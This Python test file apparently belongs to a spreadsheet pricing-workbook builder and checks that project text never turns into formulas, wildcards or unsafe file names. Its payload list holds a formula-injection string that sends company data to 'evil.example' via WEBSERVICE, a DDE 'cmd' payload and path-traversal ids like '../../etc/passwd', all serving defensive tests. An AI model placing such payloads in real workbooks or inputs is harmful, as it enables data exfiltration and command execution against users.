"""No input text ever becomes a formula (issue 12 items 2, 3, 6): text from every text field
of a project, built into every target, stays a text cell (with quotePrefix when it starts
like a formula), appears in no formula, and the recalculated workbook still prices as the
engine does — a category ``*`` or ``?`` is a name, not a wildcard."""

from __future__ import annotations

import io
import re
import tempfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import EXAMPLES, load_project
from xl_pricing import InputError, parse_project
from xl_pricing import libreoffice as lo
from xl_pricing.pricing import quote
from xl_pricing.recalc import recalculate
from engine_names import expected_names
from xl_pricing.workbook import (TARGETS, build, build_workbook,
                                 project_texts, workbook_bytes)

# Issue 12 item 2's payload, and other text Excel would read as a formula or a pattern.
PAYLOADS = [
    'x",Direct_FY,D4)+0*LEN(WEBSERVICE("http://evil.example/?c="&ENCODEURL(Company)))'
    '+SUMIFS(Direct_Amount,Direct_Category,"x',
    "*", "?", "~", "~*", "a*", "=cmd|' /C calc'!A0", "@SUM(1)", "+1", "-1 Prof", "=1+1",
    '"', '""', "'", "<5", ">=0", "=x", "#N/A", "TRUE", "1", "a\tb", "line\nbreak", " lead",
]
START = ("=", "+", "-", "@")
MARK = "Zq9"  # every generated value ends with it: no formula may contain it

# (path in the project file, path the builder names) for each free-text field.
FIELDS = ["project.id", "project.title", "project.department", "project.company",
          "project.field", "direct[0].category", "direct[0].description",
          "direct[1].category", "direct[1].description", "researchers[0].name",
          "total.allocations[0].name", "outcome.milestones[0].name", "outcome.kpis[0].name"]


def project_data(texts: dict[str, str], approach: str) -> dict[str, Any]:
    """A valid project of ``approach`` with ``texts`` in its text fields (by FIELDS path)."""
    t = texts.get
    data: dict[str, Any] = {
        "project": {"id": t("project.id", "P-1"), "title": t("project.title", ""),
                    "department": t("project.department", ""),
                    "company": t("project.company", ""), "contract": "sponsored",
                    "approach": approach, "start": "2027-04-01", "end": "2029-03-31"},
        "direct": [
            {"category": t("direct[0].category", "consumables"), "amount": 1_234_567,
             "description": t("direct[0].description", "")},
            {"category": t("direct[1].category", "travel"), "amount": 765_432,
             "fiscal_year": 2028, "description": t("direct[1].description", "")},
            {"category": "consumables", "amount": 100_001, "fiscal_year": 2028},
        ],
        "researchers": [{"name": t("researchers[0].name", ""), "rank": "professor",
                         "hours": 123.5}],
    }
    if "project.field" in texts:
        data["project"]["field"] = texts["project.field"]
    if approach == "B":
        data["total"] = {"agreed": 50_000_000, "allocations": [
            {"name": t("total.allocations[0].name", "pkg"), "amount": 1_000_000}]}
    if approach == "C":
        data["outcome"] = {
            "royalty_rate": 0.02, "contribution": 0.5, "lump_sum": 1_000_000,
            "sales": [{"fiscal_year": 2029, "low": 10_000_000, "base": 20_000_000,
                       "high": 40_000_000}],
            "milestones": [{"name": t("outcome.milestones[0].name", "m"), "amount": 2_000_000,
                            "achieved": True}],
            "kpis": [{"name": t("outcome.kpis[0].name", "k"), "amount": 500_000,
                      "achieved": True}]}
    return data


def formulas_of(wb: openpyxl.Workbook) -> list[str]:
    """Every formula in ``wb``: cell formulas, array formulas, validations, defined names."""
    out = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    out.append(str(getattr(c.value, "text", c.value)))
        for dv in ws.data_validations.dataValidation:
            out += [str(dv.formula1 or ""), str(dv.formula2 or "")]
    out += [dn.attr_text for dn in wb.defined_names.values()]
    return out


def check_text_cells(wb: openpyxl.Workbook, texts: set[str]) -> int:
    """Every cell holding one of ``texts`` is a text cell, with quotePrefix exactly when
    the text starts like a formula; returns how many such cells there are."""
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and c.value in texts:
                    seen += 1
                    assert c.data_type == "s", (ws.title, c.coordinate, c.value)
                    assert bool(c.quotePrefix) == c.value.startswith(START), \
                        (ws.title, c.coordinate, c.value)
    return seen


def check_workbooks(data: dict[str, Any], card, folder: Path, marked: bool) -> None:
    """Build every target; check text cells, formulas, and the native workbook's prices."""
    project = parse_project(data, "test")
    texts = {v for f, v in project_texts(project) if f in FIELDS and v}
    for target in TARGETS:
        wb = openpyxl.load_workbook(io.BytesIO(workbook_bytes(
            build_workbook(card, project, target))))
        found = check_text_cells(wb, texts)
        assert found >= len(texts)                 # every text is somewhere, as text
        for f in formulas_of(wb):
            if marked:
                assert MARK not in f, f
            for t in texts:
                # (a name part such as X_direct_travel is the category's slug: letters,
                # digits and "_" only, and harmless)
                if len(t) >= 6 and not re.fullmatch(r"\w+", t, re.ASCII):
                    assert t not in f, (t, f)
    path = build(card, project, "native", folder, force=True)
    values = recalculate(path)
    for name, amount in expected_names(project, card).items():
        assert values[name] == int(amount), (name, values[name], amount)
    assert values["Total"] == int(quote(project, card).total)


text = st.one_of(
    st.sampled_from(PAYLOADS),
    st.text(st.characters(blacklist_categories=("Cs", "Cc", "Cn"),
                          whitelist_characters="\t\n"), max_size=30))


@settings(max_examples=8, deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(texts=st.fixed_dictionaries({f: text for f in FIELDS}),
       approach=st.sampled_from("XABC"))
def test_no_input_text_becomes_a_formula(jp, texts, approach):
    marked = {f: f"{v}{MARK}{i}" for i, (f, v) in enumerate(texts.items())}
    marked["project.id"] = marked["project.id"][-80:]            # (ids have at most 80)
    with tempfile.TemporaryDirectory() as folder:
        check_workbooks(project_data(marked, approach), jp, Path(folder), marked=True)


@pytest.mark.parametrize("k", range(0, len(PAYLOADS), 2))
def test_payloads_as_they_are(jp, k, tmp_path):
    """The payloads themselves (no mark), turn by turn in every field; the second category
    is one a wildcard in the first would match."""
    texts = {f: PAYLOADS[(i + k) % len(PAYLOADS)] for i, f in enumerate(FIELDS)}
    texts["project.id"] = texts["project.id"][:80]
    texts["direct[1].category"] = "x" + texts["direct[0].category"].strip() + "y"
    check_workbooks(project_data(texts, "XABC"[k % 4]), jp, tmp_path, marked=False)


# -- categories are names, not patterns ----------------------------------------------------

WILD = ["*", "?", "~", "~*", "a", "A", "<5", "=x", "x*", 'x"y']


@pytest.mark.parametrize("approach", ["X", "A", "B"])
def test_wildcard_categories_price_as_the_engine(jp, approach, tmp_path):
    """Each category line equals the engine's amount for that category exactly (case kept,
    no wildcard); the 'other categories' line stays 0."""
    data = project_data({}, approach)
    data["direct"] = [{"category": c, "amount": 1_000 * (i + 1) + i, "fiscal_year":
                       2027 + i % 2} for i, c in enumerate(WILD)]
    data["direct"].append({"category": "other", "amount": 4_000_000})
    project = parse_project(data, "test")
    values = recalculate(build(jp, project, "native", tmp_path))
    expected = expected_names(project, jp)
    names = [n for n in expected if f"{approach}_direct_" in n]
    assert len(names) == len(WILD) + 1
    for name in names:
        assert values[name] == int(expected[name]), name
    assert values[f"{approach}_direct__other"] == 0
    assert values["Total"] == int(quote(project, jp).total)
    star = expected_names(project, jp)[f"{approach}_direct_x"]   # '*' has slug x
    assert star == 1_000                                         # not every item


@pytest.mark.skipif(lo.find_soffice() is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_prices_wildcard_categories_as_the_engine(jp, tmp_path):
    data = project_data({}, "A")
    data["direct"] = [{"category": c, "amount": 1_000 * (i + 1) + i, "fiscal_year":
                       2027 + i % 2} for i, c in enumerate(WILD)]
    project = parse_project(data, "test")
    values = lo.read_defined_names(build(jp, project, "native", tmp_path), timeout=180)
    for name, amount in expected_names(project, jp).items():
        assert values[name] == int(amount), name


def test_wildcard_category_in_the_fa_base_and_field(full, tmp_path):
    """A card with an MTDC base: a category ``*`` is not an excluded category; a field
    ``*`` finds no field-specific rate (the engine's generic one applies)."""
    data = project_data({"project.field": "*"}, "A")
    data["direct"] = [{"category": "*", "amount": 1_000_000},
                      {"category": "equipment", "amount": 2_000_000}]
    for target in ("native", "udf"):
        project = parse_project(data, "test")
        values = recalculate(build(full, project, target, tmp_path, force=True))
        for name, amount in expected_names(project, full).items():
            assert values[name] == int(amount), (target, name)


# -- text a workbook cannot hold -----------------------------------------------------------

@pytest.mark.parametrize("bad", ["a\x00b", "a\x0bb", "\x1f", "a\ufffeb"])
@pytest.mark.parametrize("field", FIELDS)
def test_control_characters_name_the_field(jp, field, bad, tmp_path):
    data = project_data({field: bad}, "C" if field.startswith("outcome") else
                        "B" if field.startswith("total") else "A")
    project = parse_project(data, "test")
    with pytest.raises(InputError) as err:
        build(jp, project, "udf", tmp_path)
    assert err.value.field == field
    assert "control characters" in err.value.expected
    assert list(tmp_path.iterdir()) == []                          # nothing written


def test_text_longer_than_a_cell_holds(jp):
    data = project_data({"project.title": "x" * 32_768}, "A")
    with pytest.raises(InputError, match="32,767") as err:
        build_workbook(jp, parse_project(data, "test"), "native")
    assert err.value.field == "project.title"


def test_cli_build_refuses_bad_text_and_a_file_as_out(tmp_path):
    from typer.testing import CliRunner

    from xl_pricing.cli import app
    src = tmp_path / "p.toml"
    src.write_text('[project]\nid = "P"\ntitle = "a\\u0000b"\ncontract = "joint"\n'
                   'approach = "X"\nstart = 2027-04-01\nend = 2028-03-31\n')
    out = tmp_path / "out"
    res = CliRunner().invoke(app, ["build", "--project", str(src), "--out", str(out)])
    assert res.exit_code == 2, res.output
    assert "project.title" in res.output and "Traceback" not in res.output
    assert not out.exists() or list(out.iterdir()) == []
    res = CliRunner().invoke(app, ["build", "--project", str(EXAMPLES[0]), "--out", str(src)])
    assert res.exit_code == 2 and "--out" in res.output and "folder" in res.output
    assert src.read_text().startswith("[project]")                 # untouched


@pytest.mark.parametrize("pid", ["../../etc/passwd", "a/b\\c", "..", ".hidden", "x" * 80])
def test_output_name_is_one_safe_file_name(jp, pid, tmp_path):
    data = project_data({"project.id": pid}, "X")
    path = build(jp, parse_project(data, "test"), "native", tmp_path)
    assert path.parent == tmp_path
    assert "/" not in path.name and "\\" not in path.name and ".." not in path.name
    assert not path.name.startswith(".") and len(path.name) < 200


# -- quotePrefix survives styling in the shipped examples ----------------------------------

@pytest.mark.parametrize("path", EXAMPLES, ids=lambda p: p.stem)
def test_text_starting_like_a_formula_keeps_quote_prefix(jp, path):
    project = load_project(path)
    for target in TARGETS:
        wb = openpyxl.load_workbook(io.BytesIO(workbook_bytes(
            build_workbook(jp, project, target))))
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    if c.data_type == "s" and str(c.value).startswith(START):
                        assert c.quotePrefix, (target, ws.title, c.coordinate, c.value)


def test_quote_prefix_on_a_styled_input_cell(jp):
    project = parse_project(project_data({"project.title": "=1+1", "project.company": "@x",
                                          "researchers[0].name": "-1 Prof"}, "A"), "test")
    wb = openpyxl.load_workbook(io.BytesIO(workbook_bytes(build_workbook(jp, project,
                                                                         "udf"))))
    ws = wb["Project"]
    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for t in ("=1+1", "@x", "-1 Prof"):
        assert cells[t].data_type == "s" and cells[t].quotePrefix, t
        assert cells[t].fill.fgColor.rgb.endswith("FFF2CC")       # the input style kept
        assert cells[t].protection.locked is False


